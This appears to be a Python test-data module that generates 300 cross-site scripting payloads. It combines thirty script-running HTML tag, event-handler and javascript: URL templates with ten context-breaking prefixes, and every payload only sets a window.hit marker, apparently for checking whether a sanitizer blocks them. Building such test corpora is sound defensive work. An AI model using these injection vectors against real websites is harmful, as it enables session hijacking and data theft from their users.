"""300 strings that would run a script where text is taken for markup, in the ways that are known.

Every script of theirs sets `window.hit`, so a browser can be asked whether one ran.
"""

from itertools import product

HIT = "window.hit=1"
TAGS = (
    "<script>{0}</script>",
    "<SCRIPT>{0}</SCRIPT >",
    "<script type=module>{0}</script>",
    "<img src=x onerror={0}>",
    "<img/src=x/onerror={0}>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<body onload={0}>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    "<iframe src='javascript:parent.{0}'></iframe>",
    "<object data='javascript:{0}'></object>",
    "<embed src='javascript:{0}'>",
    "<a href='javascript:{0}'>x</a>",
    "<form action='javascript:{0}'><input type=submit></form>",
    "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}>",
    "<textarea autofocus onfocus={0}>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}></video>",
    "<audio src=x onerror={0}>",
    "<marquee onstart={0}>",
    "<math><mi xlink:href='javascript:{0}'>x</mi></math>",
    "<style>@import 'javascript:{0}';</style>",
    "<link rel=stylesheet href='javascript:{0}'>",
    "<meta http-equiv=refresh content='0;javascript:{0}'>",
    "<base href='javascript:{0}//'>",
    "<x onclick={0} tabindex=1 autofocus>",
    "<template><script>{0}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
)
CLOSERS = (  # what would end the place in which the text stands
    "",
    "</script>",
    "</title>",
    "</style>",
    '">',
    "'>",
    "-->",
    "]]>",
    "</td></table>",
    "\u2028*/",
)
ATTACKS = [closer + tag.format(HIT) for tag, closer in product(TAGS, CLOSERS)]
